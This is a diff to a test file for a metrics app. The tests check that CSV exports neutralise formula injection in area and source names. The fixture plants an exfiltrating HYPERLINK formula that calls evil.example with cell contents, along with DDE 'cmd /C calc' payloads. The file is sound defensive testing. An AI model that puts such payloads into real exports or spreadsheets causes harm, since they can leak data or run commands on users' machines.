@@ -9,7 +9,7 @@ from activities.models import Source
 from conversion_points.metrics import metrics_recompute
 from conversion_points.models import Area
 
-from .factories import small_computed_community
+from .factories import small_computed_community, the_day_after_sunday
 
 HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Support")'
 DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
@@ -17,12 +17,18 @@ DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
 
 @pytest.fixture
 def named_by_an_attacker(db):
+    with the_day_after_sunday():
+        yield from _named_by_an_attacker()
+
+
+def _named_by_an_attacker():
     small_computed_community()
     # A builder names their area, staff name a source (or load_config does): both reach the public CSV.
     Area.objects.filter(slug="support").update(name=HYPERLINK)
     Source.objects.filter(slug="sumo").update(name=DDE)
     Area.objects.filter(slug="coding").update(name="-Coding+cmd|' /C calc'!A0")
     metrics_recompute()
+    yield
 
 
 def test_summary_csv_writes_formula_names_as_text(client, named_by_an_attacker):
@@ -36,7 +42,10 @@ def test_summary_csv_writes_formula_names_as_text(client, named_by_an_attacker):
     assert names["source:github"] == "GitHub"
     # The numbers are still numbers, and the JSON keeps the names exactly as written.
     assert [row["active"] for row in rows] == ["2", "1", "2", "2", "1"]
-    assert {area["name"] for area in client.get("/api/v1/metrics/summary/").json()["areas"]} == {HYPERLINK, "-Coding+cmd|' /C calc'!A0"}
+    assert {area["name"] for area in client.get("/api/v1/metrics/summary/").json()["areas"]} == {
+        HYPERLINK,
+        "-Coding+cmd|' /C calc'!A0",
+    }
 
 
 def test_series_csv_cells_are_never_formulas(client, named_by_an_attacker):
